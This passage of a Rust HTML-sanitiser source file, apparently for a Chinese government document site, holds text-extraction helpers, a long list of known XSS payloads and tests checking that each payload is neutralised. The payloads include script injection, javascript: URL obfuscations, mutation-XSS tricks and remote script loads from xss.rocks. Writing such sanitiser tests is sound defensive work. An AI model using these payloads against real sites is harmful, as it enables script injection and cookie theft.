    while !stack.is_empty() {
        close(&mut stack, &mut out);
    }
    out
}

/// Unwraps leftover marker spans (their text stays) and drops internal attributes.
fn finalize(nodes: Vec<Node>) -> Vec<Node> {
    let mut out = Vec::with_capacity(nodes.len());
    for node in nodes {
        match node {
            Node::El(mut e) => {
                e.children = finalize(std::mem::take(&mut e.children));
                if e.attr(MARKER_ATTR).is_some() {
                    for n in e.children {
                        push_node(&mut out, n);
                    }
                    continue;
                }
                e.attrs.retain(|(n, _)| !n.starts_with("x-"));
                push_node(&mut out, Node::El(e));
            }
            text => push_node(&mut out, text),
        }
    }
    out
}

fn find_images_missing_alt(nodes: &[Node], out: &mut Vec<String>) {
    for node in nodes {
        if let Node::El(e) = node {
            if e.name == "img" && e.attr("alt").is_none_or(|a| a.trim().is_empty()) {
                out.push(e.attr("src").unwrap_or("").to_string());
            }
            find_images_missing_alt(&e.children, out);
        }
    }
}

// ---------------------------------------------------------------------------------------------------------
// Text
// ---------------------------------------------------------------------------------------------------------

const BLOCK_TAGS: &[&str] = &[
    "p",
    "div",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "li",
    "dt",
    "dd",
    "blockquote",
    "pre",
    "table",
    "caption",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "ul",
    "ol",
    "dl",
    "figure",
    "figcaption",
    "hr",
];

#[derive(Default)]
struct TextBuf {
    lines: Vec<String>,
    current: String,
}

impl TextBuf {
    fn line_break(&mut self) {
        self.lines.push(std::mem::take(&mut self.current));
    }

    fn finish(mut self) -> String {
        self.line_break();
        self.lines.iter().map(|l| collapse_line(l)).filter(|l| !l.is_empty()).collect::<Vec<_>>().join("\n")
    }
}

/// Separates table cells (and blocks inside them) while collecting text; always becomes one space.
const CELL_SEPARATOR: char = '\u{1F}';

fn is_text_space(c: char) -> bool {
    c.is_whitespace() || c == CELL_SEPARATOR
}

#[derive(Clone, Copy, PartialEq)]
enum TextMode {
    Flow,
    Pre,
    /// Inside a table cell: a row is one line, so blocks and breaks in cells only separate with a space.
    Cell,
}

fn collect_text(nodes: &[Node], buf: &mut TextBuf, mode: TextMode) {
    for node in nodes {
        match node {
            Node::Text(t) => {
                let text = decode_entities(t);
                if mode == TextMode::Pre {
                    for (i, part) in text.split('\n').enumerate() {
                        if i > 0 {
                            buf.line_break();
                        }
                        buf.current.push_str(part);
                    }
                } else {
                    buf.current.push_str(&text);
                }
            }
            Node::El(e) => match e.name.as_str() {
                "td" | "th" | "caption" => {
                    buf.current.push(CELL_SEPARATOR);
                    collect_text(&e.children, buf, TextMode::Cell);
                    buf.current.push(CELL_SEPARATOR);
                }
                "br" | "hr" if mode == TextMode::Cell => buf.current.push(' '),
                name if mode == TextMode::Cell && BLOCK_TAGS.contains(&name) && name != "table" => {
                    buf.current.push(CELL_SEPARATOR);
                    collect_text(&e.children, buf, mode);
                    buf.current.push(CELL_SEPARATOR);
                }
                "br" => buf.line_break(),
                name if BLOCK_TAGS.contains(&name) => {
                    buf.line_break();
                    let inner = if name == "pre" || mode == TextMode::Pre { TextMode::Pre } else { TextMode::Flow };
                    collect_text(&e.children, buf, inner);
                    buf.line_break();
                }
                _ => collect_text(&e.children, buf, mode),
            },
        }
    }
}

fn is_cjk(c: char) -> bool {
    matches!(c as u32,
        0x2E80..=0x2FDF | 0x3000..=0x303F | 0x3040..=0x30FF | 0x3100..=0x312F | 0x31A0..=0x31FF
        | 0x3400..=0x4DBF | 0x4E00..=0x9FFF | 0xAC00..=0xD7AF | 0xF900..=0xFAFF | 0xFE30..=0xFE4F
        | 0xFF00..=0xFFEF | 0x20000..=0x3134F)
}

/// Collapses whitespace runs to one space and trims; a run containing a source line break (and no cell
/// separator) between two CJK characters disappears.
fn collapse_line(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        if !is_text_space(c) {
            out.push(c);
            continue;
        }
        let mut has_break = matches!(c, '\n' | '\r');
        let mut has_cell = c == CELL_SEPARATOR;
        while let Some(&n) = chars.peek() {
            if !is_text_space(n) {
                break;
            }
            has_break |= matches!(n, '\n' | '\r');
            has_cell |= n == CELL_SEPARATOR;
            chars.next();
        }
        let (Some(prev), Some(&next)) = (out.chars().last(), chars.peek()) else { continue };
        if has_cell || !(has_break && is_cjk(prev) && is_cjk(next)) {
            out.push(' ');
        }
    }
    out
}

fn collapse_spaces(s: &str) -> String {
    s.split(char::is_whitespace).filter(|p| !p.is_empty()).collect::<Vec<_>>().join(" ")
}

/// Joins lines into one: with nothing when either side is CJK, else with a space.
fn join_lines(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for line in text.lines() {
        if let (Some(prev), Some(next)) = (out.chars().last(), line.chars().next())
            && !is_cjk(prev)
            && !is_cjk(next)
        {
            out.push(' ');
        }
        out.push_str(line);
    }
    out
}

// ---------------------------------------------------------------------------------------------------------
// XSS payloads
// ---------------------------------------------------------------------------------------------------------

/// Known XSS payloads (OWASP filter-evasion cheat sheet style, mutation XSS, GHSA-m6mh-2hw2-555x, …).
/// Every one must come out of [`sanitize_body`] harmless; other crates reuse the list for end-to-end tests.
pub const XSS_PAYLOADS: &[&str] = &[
    // script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=\"http://xss.rocks/xss.js\"></script>",
    "<<script>alert(\"XSS\");//<</script>",
    "<script src=http://xss.rocks/xss.js?< B >",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\"><script>alert(document.cookie)</script>",
    "'';!--\"<XSS>=&{()}",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    // img
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+\">",
    "<img srcset=\"javascript:alert(1) 1x, /x.png 2x\" src=\"/x.png\" alt=\"x\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<img src=x onerror=&#x61;lert(1)>",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<img src=\"/a.png\" style=\"width:expression(alert(1))\" alt=\"a\">",
    "<img src=x onerror=alert(1)//",
    // links and URL obfuscation
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"java\0script:alert(1)\">x</a>",
    "<a href=\"\0javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"jAvAsCrIpT&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\" &#x0A; javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"vbscript&#58;msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"https://www.gov.cn/\" onclick=\"alert(1)\">x</a>",
    "<a href=# onmouseover=\"alert(1)\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</a>",
    "<a href=\"javascript:alert(1)\"",
    // svg / math
    "<svg onload=alert(1)>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<svg><a><set attributeName=\"href\" to=\"javascript:alert(1)\" /><text x=\"20\" y=\"20\">click</text></a></svg>",
    "<svg><a><animate attributeName=\"href\" values=\"javascript:alert(1)\" /><text x=\"20\" y=\"20\">click</text></a></svg>",
    "<svg><a><animate attributeName=\"href\" from=\"javascript:alert(1)\" to=\"javascript:alert(2)\" /><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x\" /></svg>",
    "<svg><p><style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">CLICKME</math>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    // other elements and handlers
    "<body onload=alert('XSS')>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object type=\"text/x-scriptlet\" data=\"http://xss.rocks/scriptlet.html\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></embed>",
    "<applet code=\"javascript:alert(1)\"></applet>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<video poster=javascript:alert(1)//></video>",
    "<audio src=x onerror=alert(1)>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<form><button formaction=\"javascript:alert(1)\">X</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=\"image\" src=\"javascript:alert(1)\">",
    "<button onclick=\"alert(1)\">x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=submit value=click>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>click",
    "<div onmouseover=\"alert(1)\">x</div>",
    "<p onclick=alert(1) id=x data-x=\"1\" class=\"MsoNormal\">x</p>",
    // style
    "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
    "<div style=\"width: expression(alert('XSS'));\">x</div>",
    "<p STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">x</p>",
    "<span style=\"behavior: url(xss.htc);\">x</span>",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">x</DIV>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    // head elements
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<base href=\"http://evil.example/\">",
    // mutation XSS via raw-text elements and comments
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<title><img src=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><img src=\"</textarea><img src=x onerror=alert(1)>\">",
    "<iframe><img src=\"</iframe><img src=x onerror=alert(1)>\">",
    "<xmp><img src=\"</xmp><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a title=\"x\" href=\"/ok\"><a href=\"javascript:alert(1)\">nested</a></a>",
    "<p><object><div><a href=\"/x\"><object><a href=\"javascript:alert(1)\">y</a></object></a></div></object></p>",
];

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::{Arc, Mutex};

    // ---------------------------------------------------------------- XSS checker

    /// Every tag name any of the parsers here could produce (HTML, SVG, MathML), for the re-parsing
    /// recorder: ammonia only shows the attribute filter the attributes of allowed elements.
    const EVERY_TAG: &[&str] = &[
        "a",
        "abbr",
        "address",
        "animate",
        "animateMotion",
        "animateTransform",
        "annotation-xml",
        "applet",
        "area",
        "article",
        "aside",
        "audio",
        "b",
        "base",
        "basefont",
        "bdi",
        "bdo",
        "bgsound",
        "blink",
        "blockquote",
        "body",
        "br",
        "button",
        "canvas",
        "caption",
        "center",
        "circle",
        "cite",
        "code",
        "col",
        "colgroup",
        "data",
        "datalist",
        "dd",
        "defs",
        "del",
        "desc",
        "details",
        "dfn",
        "dialog",
        "dir",
        "div",
        "dl",
        "dt",
        "ellipse",
        "em",
        "embed",
        "fieldset",
        "figcaption",
        "figure",
        "font",
        "footer",
        "foreignObject",
        "form",
        "frame",
        "frameset",
        "g",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "head",
        "header",
        "hr",
        "html",
        "i",
        "iframe",
        "image",
        "img",
        "input",
        "ins",
        "isindex",
        "kbd",
        "keygen",
        "label",
        "legend",
        "li",
        "line",
        "link",
        "listing",
        "maction",
        "main",
        "map",
        "mark",
        "marquee",
        "math",
        "menu",
        "meta",
        "meter",
        "mglyph",
        "mi",
        "mn",
        "mo",
        "mrow",
        "ms",
        "mstyle",
        "mtext",
        "nav",
        "nobr",
        "noembed",
        "noframes",
        "noscript",
        "object",
        "ol",
        "optgroup",
        "option",
        "output",
        "p",
        "param",
        "path",
        "picture",
        "plaintext",
        "polygon",
        "pre",
        "progress",
        "q",
        "rect",
        "rp",
        "rt",
        "ruby",
        "s",
        "samp",
        "script",
        "section",
        "select",
        "set",
        "slot",
        "small",
        "source",
        "span",
        "strike",
        "strong",
        "style",
        "sub",
        "summary",
        "sup",
        "svg",
        "table",
        "tbody",
        "td",
        "template",
        "text",
        "textarea",
        "tfoot",
        "th",
        "thead",
        "time",
        "title",
        "tr",
        "track",
        "tspan",
        "tt",
        "u",
        "ul",
        "use",
        "var",
        "video",
        "wbr",
        "xmp",
        "x",
    ];

    /// Elements, attributes and URL values ammonia's parser finds when it parses `html` again.
    fn reparse_attributes(html: &str) -> Vec<(String, String, String)> {
        let seen: Arc<Mutex<Vec<(String, String, String)>>> = Arc::default();
        let record = Arc::clone(&seen);
        let mut b = Builder::empty();
        b.tags(EVERY_TAG.iter().copied().collect())
            .clean_content_tags(HashSet::new())
            .generic_attributes(HashSet::new())
            .generic_attribute_prefixes([""].into_iter().collect())
            .tag_attributes(HashMap::new())
            // Ammonia drops URLs with other schemes before the filter sees them; the textual checks and
            // the second parser below cover those.
            .url_schemes(["javascript", "vbscript", "data", "file", "http", "https", "mailto", "tel", "x"].into())
            .link_rel(None)
            .strip_comments(false)
            .attribute_filter(move |el, attr, value| {
                record.lock().unwrap().push((el.to_string(), attr.to_string(), value.to_string()));
                Some(Cow::Borrowed(value))
            });
        let _ = b.clean(html).to_string();
        seen.lock().unwrap().clone()
    }

    fn has_tag(lower: &str, name: &str) -> bool {
        let needle = format!("<{name}");
        lower.match_indices(&needle).any(|(i, _)| {
            lower[i + needle.len()..].chars().next().is_none_or(|c| c.is_ascii_whitespace() || c == '/' || c == '>')
        })
    }

    /// The `<…>` spans of `html` (text and attribute values have `<`/`>` escaped in sanitised output).
    fn tag_spans(html: &str) -> Vec<&str> {
        let mut out = Vec::new();
        let mut rest = html;
        while let Some(start) = rest.find('<') {
            let end = rest[start..].find('>').map_or(rest.len(), |k| start + k + 1);
            out.push(&rest[start..end]);
            rest = &rest[end..];
        }
        out
    }

    fn has_event_handler(markup: &str) -> bool {
        let b = markup.as_bytes();
        (0..b.len()).any(|i| {
            (i == 0 || !b[i - 1].is_ascii_alphanumeric() && b[i - 1] != b'-') && b[i..].starts_with(b"on") && {
                let letters = b[i + 2..].iter().take_while(|c| c.is_ascii_lowercase()).count();
                letters > 0 && b.get(i + 2 + letters) == Some(&b'=')
            }
        })
    }

    fn url_is_dangerous(value: &str) -> bool {
        let squashed: String =
            value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect::<String>().to_ascii_lowercase();
        ["javascript:", "vbscript:", "data:", "file:"].iter().any(|s| squashed.starts_with(s))
            || value.chars().any(|c| c.is_control() || c == '\u{FFFD}')
    }

    fn allowed_attribute(el: &str, attr: &str) -> bool {
        BODY_ATTRIBUTES.iter().any(|(t, attrs)| *t == el && attrs.contains(&attr))
            || (el == "a" && attr == "rel")
            || (attr == "class" && CLASSED_TAGS.contains(&el))
    }

    fn allowed_value(attr: &str, value: &str) -> bool {
        attr != "class" || value.split_ascii_whitespace().all(|c| BODY_CLASSES.contains(&c))
    }

    /// What is wrong with `html` as sanitised output; empty when nothing is.
    fn violations(html: &str) -> Vec<String> {
        let mut v = Vec::new();
        let lower = html.to_ascii_lowercase();
        for tag in [
            "script", "iframe", "object", "embed", "svg", "math", "style", "base", "meta", "form", "link", "frame",
            "frameset", "applet", "input", "button", "video", "audio", "source", "details", "marquee", "isindex",
            "body", "template", "xmp", "noscript", "title", "textarea", "select", "keygen", "set", "animate", "x",
            "font", "h1",
        ] {
            if has_tag(&lower, tag) {
                v.push(format!("element <{tag}>"));
            }
        }
        if lower.contains("<!--") {
            v.push("comment".into());
        }
        // Textual checks on the markup only (text may legitimately say "onerror=").
        let markup: String = tag_spans(&lower).concat();
        for needle in ["javascript:", "vbscript:", "data:", "srcset", "style=", "formaction", "xlink:href", "<!"] {
            if markup.contains(needle) {
                v.push(format!("markup contains {needle:?}"));
            }
        }
        if has_event_handler(&markup) {
            v.push("markup has an on*= handler".into());
        }
        // Second parser (this module's): every element and attribute allow-listed, every URL safe.
        fn walk(nodes: &[Node], v: &mut Vec<String>) {
            for n in nodes {
                if let Node::El(e) = n {
                    if !BODY_TAGS.contains(&e.name.as_str()) {
                        v.push(format!("element {} not allowed", e.name));
                    }
                    for (a, val) in &e.attrs {
                        if !allowed_attribute(&e.name, a) || !allowed_value(a, val) {
                            v.push(format!("attribute {}[{a}] not allowed", e.name));
                        }
                        if matches!(a.as_str(), "href" | "src") && (url_is_dangerous(val) || safe_url(val).is_none()) {
                            v.push(format!("url {}[{a}]={val:?}", e.name));
                        }
                    }
                    walk(&e.children, v);
                }
            }
        }
        walk(&parse_fragment(html), &mut v);
        // Ammonia's parser, as a browser would parse the output.
        for (el, attr, value) in reparse_attributes(html) {
            if attr.starts_with("on") {
                v.push(format!("reparsed handler {el}[{attr}]"));
            }
            if !allowed_attribute(&el, &attr) || !allowed_value(&attr, &value) {
                v.push(format!("reparsed attribute {el}[{attr}] not allowed"));
            }
            let url_attr = matches!(attr.as_str(), "href" | "src" | "xlink:href" | "action" | "formaction" | "poster")
                || attr == "data"
                || attr == "background";
            if url_attr && url_is_dangerous(&value) {
                v.push(format!("reparsed url {el}[{attr}]={value:?}"));
            }
        }
        v
    }

    #[test]
    fn xss_payload_list_is_large_enough() {
        assert!(XSS_PAYLOADS.len() >= 60, "{}", XSS_PAYLOADS.len());
        let distinct: HashSet<&&str> = XSS_PAYLOADS.iter().collect();
        assert_eq!(distinct.len(), XSS_PAYLOADS.len(), "duplicate payloads");
    }

    #[test]
    fn xss_payloads_are_neutralised() {
        let mut failures = Vec::new();
        for payload in XSS_PAYLOADS {
            let out = sanitize_body(payload);
            let v = violations(&out);
            if !v.is_empty() {
                failures.push(format!("{payload:?}\n  -> {out:?}\n  {v:?}"));
            }
            // Also wrapped in realistic content, and after a second round.
            let wrapped = sanitize_body(&format!("<p>前文</p>{payload}<p>后文</p>"));
            let v = violations(&wrapped);
            if !v.is_empty() {
                failures.push(format!("wrapped {payload:?}\n  -> {wrapped:?}\n  {v:?}"));
            }
            assert_eq!(sanitize_body(&out), out, "not stable: {payload:?}");
            assert!(!out.contains('\0') && !to_text(payload).contains('\0'), "NUL kept: {payload:?}");
        }
        assert!(failures.is_empty(), "{} payload(s) got through:\n{}", failures.len(), failures.join("\n"));
    }

    #[test]
    fn xss_checker_flags_raw_payloads() {
        // The checker has teeth: on the payloads themselves (unsanitised) it finds problems in nearly all.
        let missed: Vec<&&str> = XSS_PAYLOADS.iter().filter(|p| violations(p).is_empty()).collect();
        assert!(missed.len() * 10 <= XSS_PAYLOADS.len(), "checker missed {} raw payloads: {missed:?}", missed.len());
        for bad in [
            r#"<img src="x" onerror="alert(1)">"#,
            r#"<a href="javascript:alert(1)">x</a>"#,
            r#"<a href="java&#x09;script:alert(1)">x</a>"#,
            r#"<a href="/ok" style="color:red">x</a>"#,
            r#"<img src="/a.png" srcset="/b.png 2x">"#,
            r#"<p id="x">x</p>"#,
            r#"<p class="MsoNormal">x</p>"#,
            r#"<svg><a href="/x">x</a></svg>"#,
            "<h1>x</h1>",
            "<!-- x -->",
        ] {
            assert!(!violations(bad).is_empty(), "checker passed {bad:?}");
        }
        assert!(violations(r#"<p class="text-center">安全 onerror=alert(1) javascript:x</p>"#).is_empty());
    }

    // ---------------------------------------------------------------- policy

    fn s(html: &str) -> String {
        sanitize_body(html)
    }

    #[test]
    fn h1_becomes_h2_and_headings_survive() {
        assert_eq!(
            s("<h1>标题</h1><h2>二</h2><h3>三</h3><h6>六</h6>"),
            "<h2>标题</h2><h2>二</h2><h3>三</h3><h6>六</h6>"
        );
    }

    #[test]
    fn allowed_markup_passes_unchanged() {
        let html = concat!(
            "<p>正文<strong>加粗</strong><b>b</b><em>em</em><i>i</i><u>u</u><s>s</s>H<sub>2</sub>O x<sup>2</sup><br>",
            "<abbr title=\"政府信息公开\">政务公开</abbr><code>x &lt; y</code></p><hr>",
            "<blockquote><p>引文</p></blockquote><ul><li>一</li></ul><ol start=\"3\"><li>三</li></ol>",
            "<dl><dt>术语</dt><dd>解释</dd></dl><pre>预排\n文本</pre>",
            "<figure><img src=\"/attachments/1/a.png\" alt=\"图\" width=\"300\" height=\"200\"><figcaption>图一</figcaption></figure>",
            "<table><caption>表</caption><colgroup><col><col></colgroup><thead><tr><th scope=\"col\">甲</th><th scope=\"col\">乙</th></tr></thead>",
            "<tbody><tr><td colspan=\"2\" rowspan=\"1\">合并</td></tr></tbody><tfoot><tr><td>脚</td><td>注</td></tr></tfoot></table>",
            "<div class=\"text-right\">落款</div><p class=\"text-center indent\">居中</p>",
            "<p><a href=\"/attachments/7/通知.pdf\" title=\"附件\" rel=\"noopener noreferrer\">附件</a></p>",
        );
        assert_eq!(s(html), html);
    }

    #[test]
    fn attributes_are_allow_listed() {
        assert_eq!(
            s(
                r#"<p id="a" class="MsoNormal text-center foo" style="color:red" data-x="1" onclick="x()" lang="zh">x</p>"#
            ),
            r#"<p class="text-center">x</p>"#
        );
        assert_eq!(s(r#"<td class="indent">x</td>"#), "x", "a stray cell is dropped by the parser");
        assert_eq!(
            s(
                r#"<table><tr><th class="text-right" width="10" colspan="0" rowspan="x" scope="ROW">x</th></tr></table>"#
            ),
            r#"<table><tbody><tr><th scope="row" class="text-right">x</th></tr></tbody></table>"#
        );
        assert_eq!(s(r#"<ol start="x" type="a" reversed><li>x</li></ol>"#), "<ol><li>x</li></ol>");
        assert_eq!(s(r#"<ol start=" 5 "><li>x</li></ol>"#), r#"<ol start="5"><li>x</li></ol>"#);
        assert_eq!(
            s(r#"<img src="/a.png" alt="a" width="100px" height="20" title="t" loading="lazy" class="text-center">"#),
            r#"<img src="/a.png" alt="a" height="20">"#
        );
        assert_eq!(s(r#"<blockquote cite="http://x" class="indent">x</blockquote>"#), "<blockquote>x</blockquote>");
        assert_eq!(s(r#"<span class="text-center">x</span>"#), "x");
    }

    #[test]
    fn links_get_rel_and_no_target() {
        assert_eq!(
            s(r#"<a href="https://www.gov.cn/" target="_blank" rel="opener">国务院</a>"#),
            r#"<a href="https://www.gov.cn/" rel="noopener noreferrer">国务院</a>"#
        );
        assert_eq!(
            s(r#"<a href="/attachments/12/附件1.xlsx">附件</a>"#),
            r#"<a href="/attachments/12/附件1.xlsx" rel="noopener noreferrer">附件</a>"#
        );
        assert_eq!(
            s(r#"<a href="mailto:xxgk@example.gov.cn">信箱</a> <a href="tel:12345">12345</a>"#),
            r#"<a href="mailto:xxgk@example.gov.cn" rel="noopener noreferrer">信箱</a> <a href="tel:12345" rel="noopener noreferrer">12345</a>"#
        );
        assert_eq!(s(r##"<a href="#sec2">跳转</a>"##), r##"<a href="#sec2" rel="noopener noreferrer">跳转</a>"##);
        assert_eq!(s(r#"<a name="_Toc1">锚点</a>"#), "锚点", "an anchor without href is unwrapped");
    }

    #[test]
    fn url_schemes_and_obfuscations() {
        for href in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "  javascript:alert(1)",
            "jav&#x09;ascript:alert(1)",
            "jav&#9;ascript:alert(1)",
            "java\0script:alert(1)",
            "\0javascript:alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)",
            "javascript&colon;alert(1)",
            "java&Tab;script:alert(1)",
            "\u{1}javascript:alert(1)",
            "vbscript:msgbox(1)",
            "VBScript:msgbox(1)",
            "data:text/html,<script>alert(1)</script>",
            "data:image/png;base64,iVBORw0KGgo=",
            "file:///C:/Users/a/clip_image001.png",
            "ftp://example.com/a",
            "jar:http://x!/",
        ] {
            let out = s(&format!("<a href=\"{href}\">x</a><img src=\"{href}\" alt=\"y\">"));
            // The link loses its URL and so becomes plain text.
            assert_eq!(out, r#"x<img alt="y">"#, "{href:?}");
        }
        for (href, kept) in [
            ("http://example.com/a?b=1&c=2", "http://example.com/a?b=1&amp;c=2"),
            ("HTTPS://EXAMPLE.COM/", "HTTPS://EXAMPLE.COM/"),
            (" /attachments/1.pdf ", "/attachments/1.pdf"),
            ("/attach\tments/1.pdf", "/attachments/1.pdf"),
            ("docs/a.html", "docs/a.html"),
            ("?page=2", "?page=2"),
            ("/a:b", "/a:b"),
        ] {
            assert_eq!(
                s(&format!("<a href=\"{href}\">x</a>")),
                format!("<a href=\"{kept}\" rel=\"noopener noreferrer\">x</a>")
            );
        }
    }

    #[test]
    fn dropped_elements_and_content() {
        assert_eq!(s("<p>a<script>alert(1)</script>b<style>p{}</style>c</p>"), "<p>abc</p>");
        assert_eq!(
            s("<p>a<!-- 注释 -->b<!--[if gte mso 9]><xml><w:View>Normal</w:View></xml><![endif]-->c</p>"),
            "<p>abc</p>"
        );
        assert_eq!(s("<p><font face=\"宋体\" color=\"red\" size=\"4\">文字</font></p>"), "<p>文字</p>");
        assert_eq!(s("<p><span><span lang=\"EN-US\">2024</span>年</span></p>"), "<p>2024年</p>");
        assert_eq!(s("<p>x<o:p>&nbsp;</o:p></p><p><o:p></o:p></p>"), "<p>x</p>");
        assert_eq!(s("<w:WordDocument><w:View>Print</w:View></w:WordDocument><p>正文</p>"), "<p>正文</p>");
        assert_eq!(
            s("<p><st1:chsdate Year=\"2024\" Month=\"3\" Day=\"1\" w:st=\"on\">2024年3月1日</st1:chsdate></p>"),
            "<p>2024年3月1日</p>"
        );
        assert_eq!(s("<meta charset=utf-8><link rel=stylesheet href=/a.css><title>标题</title><p>x</p>"), "<p>x</p>");
        assert_eq!(
            s("<iframe src=\"https://example.com\">后备</iframe><svg><text>图</text></svg><p>x</p>"),
            "<p>x</p>"
        );
        assert_eq!(s("<p></p><p>x</p>"), "<p>x</p>");
    }

    #[test]
    fn chinese_text_survives_intact() {
